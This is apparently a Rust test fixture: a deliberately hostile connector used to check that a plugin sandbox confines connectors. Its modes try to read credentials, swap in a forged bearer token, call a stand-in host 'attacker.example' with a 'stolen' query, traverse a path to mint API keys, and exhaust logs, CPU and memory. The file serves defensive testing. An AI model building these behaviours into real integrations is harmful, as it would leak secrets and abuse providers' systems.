//! A connector that misbehaves as its settings say, for tests of what keeps connectors in. What it gets to know it tries
//! to carry out in a record's model.

use std::hint::black_box;

use outlay_connector::{
    Account, AuthMethod, Connector, Entry, Error, Failure, Manifest, Page, Request, Settings, StreamKind, Window, auth,
    daily, declare, entry, error, field, last_page, log, manifest, now, optional_field, page,
};

const DAY: i64 = 86_400;

#[derive(Debug)]
pub struct Hostile;

outlay_connector::export!(Hostile);

impl Connector for Hostile {
    fn manifest() -> Manifest {
        Manifest {
            documentation: "Misbehaves as its settings say.".into(),
            settings: vec![
                field("base_url", "Base URL", "Where its victim is."),
                field("mode", "Mode", "What it does wrong."),
                optional_field("wanted", "Wanted", "What it would like to know."),
            ],
            credentials: vec![field("token", "Token", "What it would like to have.")],
            auth: vec![auth("token", AuthMethod::Bearer("token".into()))],
            requests: vec![
                declare("usage", "GET", "setting:base_url", "/usage", "token"),
                declare("one", "GET", "setting:base_url", "/usage/{id}", "token"),
                declare("away", "GET", "https://attacker.example", "/collect", "token"),
            ],
            streams: vec![daily("usage", StreamKind::Usage, "Usage")],
            ..manifest("hostile", env!("CARGO_PKG_VERSION"), "Hostile")
        }
    }

    fn check(_settings: &Settings) -> Result<Account, Error> {
        Ok(Account { id: None, name: None, notes: vec![] })
    }

    fn sync(
        settings: &Settings,
        _stream: &str,
        window: Window,
        cursor: Option<&str>,
        _state: Option<&[u8]>,
    ) -> Result<Page, Error> {
        let tell = |what: String| Ok(last_page(vec![Entry { model: Some(what), ..blank(window) }]));
        match settings.get("mode").unwrap_or_default() {
            "read_credential" => {
                let ids = ["token", "credential", "authorization"];
                let found = ids.iter().find_map(|id| settings.get(id)).unwrap_or("nothing");
                // A header of its own would be sent in the place of the real one.
                Request::get("usage").header("authorization", "Bearer mine").send()?;
                tell(format!("found {found}"))
            }
            "read_echo" => {
                let response = Request::get("usage").query("echo", "1").send()?;
                let header = response.header("x-echo").unwrap_or_default().to_owned();
                tell(format!("{} {header}", String::from_utf8_lossy(response.body())))
            }
            "other_host" => tell(said(Request::get("away").query("stolen", "1"))),
            "inside" => Request::get("usage").send().and_then(|_response| tell("got in".into())),
            "undeclared" => tell(said(Request::get("admin"))),
            // A path of the provider that nobody declared: no value of a path may lead there.
            "mint_key" => {
                Request::get("one").path("../api_keys").send()?;
                let minted = Request::post("usage", &["a new key"])?.path("api_keys");
                tell(said(minted))
            }
            "redirect" => {
                let response = Request::get("usage").query("redirect", "1").send_any()?;
                tell(format!("status {}", response.status()))
            }
            "flood_log" => {
                let line = "x".repeat(100_000);
                for number in 0..10_000 {
                    log::info(format!("{number} {line}"));
                }
                tell("flooded".into())
            }
            "never_end" => loop {
                black_box(now());
            },
            "same_page" => Ok(page(vec![], Some("again".into()))),
            "many_requests" => loop {
                Request::get("usage").send()?;
            },
            "much_memory" => {
                let mut all: Vec<Vec<u8>> = vec![];
                loop {
                    all.push(black_box(vec![1; 1 << 20]));
                }
            }
            "panic" => panic!("no reason"),
            "no_number" => {
                Ok(last_page(vec![Entry { cost: Some("NaN".into()), currency: Some("USD".into()), ..blank(window) }]))
            }
            "no_currency" => Ok(last_page(vec![Entry { cost: Some("1".into()), ..blank(window) }])),
            "other_time" => Ok(last_page(vec![entry("hostile", window.start - DAY, window.start)])),
            "no_object" => Ok(last_page(vec![Entry { raw: "[1]".into(), ..blank(window) }])),
            "too_long" => tell("m".repeat(1 << 20)),
            "half" if cursor.is_none() => Ok(page(vec![blank(window)], Some("second".into()))),
            "half" => Err(error(Failure::Unexpected, "the second half is missing")),
            _ => Ok(last_page(vec![blank(window)])),
        }
    }
}

fn blank(window: Window) -> Entry {
    Entry { requests: Some(1), ..entry("hostile", window.start, (window.start + DAY).min(window.end)) }
}

/// What becomes of a request, in words.
fn said(request: Request) -> String {
    match request.send() {
        Ok(response) => format!("went through: {}", response.status()),
        Err(problem) => problem.message,
    }
}
